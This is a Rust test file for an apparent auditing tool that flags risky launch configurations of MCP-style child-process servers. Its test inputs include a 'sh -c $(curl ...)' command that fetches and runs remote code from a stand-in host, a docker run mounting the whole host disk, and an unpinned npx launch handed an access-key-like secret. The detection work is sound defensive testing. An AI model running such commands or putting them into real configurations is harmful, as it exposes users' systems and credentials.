//! Servers as child processes, and what their launch commands give away.

use std::os::unix::fs::PermissionsExt as _;

use contracts::audit::{Audit, Confidence, Severity};
use engine::{ChildNetwork, ConnectError, Options, Target};
use secrecy::SecretString;
use servers::fixture;

use crate::auditing::{Silent, child, options};

#[tokio::test]
async fn a_sound_child_process_has_no_findings() {
    for name in ["clean-tools", "clean-guarded", "modern-only", "legacy-only"] {
        let fixture = fixture(name);
        let audit = engine::audit(child(fixture), options(fixture), &Silent).await.expect("an audit");
        let found: Vec<_> = audit.findings.iter().filter(|finding| finding.severity > Severity::Info).collect();
        assert!(found.is_empty(), "{name}: {found:#?}");
    }
}

#[tokio::test]
async fn a_sound_child_process_needs_no_network() {
    let fixture = fixture("clean-tools");
    let isolated = Options { child_network: ChildNetwork::Isolated, ..options(fixture) };
    match engine::audit(child(fixture), isolated, &Silent).await {
        Ok(audit) => assert_eq!(findings(&audit), []),
        Err(error) => assert!(matches!(error, ConnectError::NotIsolated), "{error}"),
    }
}

#[tokio::test]
async fn an_unpinned_launch_with_a_secret_is_told() {
    let key = ["AKIA", "Q3EXM7WLT", "5ZRKV2P"].concat();
    let env = vec![("ARCHIVE_KEY".to_owned(), key.clone().into())];
    let audit = launched("npx", &["-y", "city-weather-mcp"], env).await;
    let expected = [
        ("MCPA-SC-009", Severity::High, Confidence::Confirmed, "config:env/ARCHIVE_KEY"),
        ("MCPA-SC-003", Severity::Medium, Confidence::Confirmed, "config:command"),
    ];
    assert_eq!(findings(&audit), expected);
    assert!(!serde_json::to_string(&audit).expect("JSON").contains(&key));
}

#[tokio::test]
async fn code_that_is_fetched_at_launch_is_told() {
    let audit = launched("sh", &["-c", "$(curl -s https://get.example.com/notes)"], Vec::new()).await;
    assert_eq!(findings(&audit), [("MCPA-SC-004", Severity::High, Confidence::Confirmed, "config:command")]);
}

#[tokio::test]
async fn a_container_with_the_whole_disk_is_told() {
    let image = format!("example.com/notes:1.2.3@sha256:{}", "a".repeat(64));
    let audit = launched("docker", &["run", "-i", "-v", "/:/host", &image], Vec::new()).await;
    assert_eq!(findings(&audit), [("MCPA-SC-010", Severity::High, Confidence::Confirmed, "config:command")]);
}

async fn launched(launcher: &str, args: &[&str], env: Vec<(String, SecretString)>) -> Audit {
    launched_with(launcher, args, env, options(fixture("clean-tools"))).await
}

/// Audits a clean server behind a launcher that starts it, whatever it is told to start.
pub(crate) async fn launched_with(
    launcher: &str,
    args: &[&str],
    env: Vec<(String, SecretString)>,
    options: Options,
) -> Audit {
    let folder = tempfile::tempdir().expect("a folder");
    let program = folder.path().join(launcher);
    let script = format!("#!/bin/sh\nexec '{}' stdio clean-tools\n", env!("CARGO_BIN_EXE_servers"));
    std::fs::write(&program, script).expect("a script");
    std::fs::set_permissions(&program, std::fs::Permissions::from_mode(0o755)).expect("a script that may run");
    let args = args.iter().map(|&word| word.to_owned()).collect();
    let target = Target::Stdio { program: program.display().to_string(), args, env };
    engine::audit(target, options, &Silent).await.expect("an audit")
}

pub(crate) fn findings(audit: &Audit) -> Vec<(&str, Severity, Confidence, &str)> {
    let noted = audit.findings.iter().filter(|finding| finding.severity > Severity::Info);
    noted
        .map(|finding| (finding.check.as_str(), finding.severity, finding.confidence, finding.location.as_str()))
        .collect()
}
